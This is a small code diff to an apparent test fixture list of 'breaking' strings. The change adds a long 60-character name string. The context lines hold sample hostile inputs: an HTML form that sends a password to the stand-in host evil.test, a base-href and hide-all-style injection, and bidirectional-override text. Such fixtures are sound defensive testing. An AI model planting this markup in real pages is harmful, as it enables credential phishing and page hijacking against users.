@@ -46,6 +46,8 @@ export const breaking: readonly string[] = [
   '<form action="https://evil.test/"><input name=password><button>Log in</button></form>',
   '<title>x</title><base href="https://evil.test/"><style>*{display:none}</style>',
   `${'W'.repeat(90)}`,
+  // As long as names may be.
+  `${'M'.repeat(60)}`,
   `\u202e\u2066${'\u0301'.repeat(40)}x`,
 ];
 
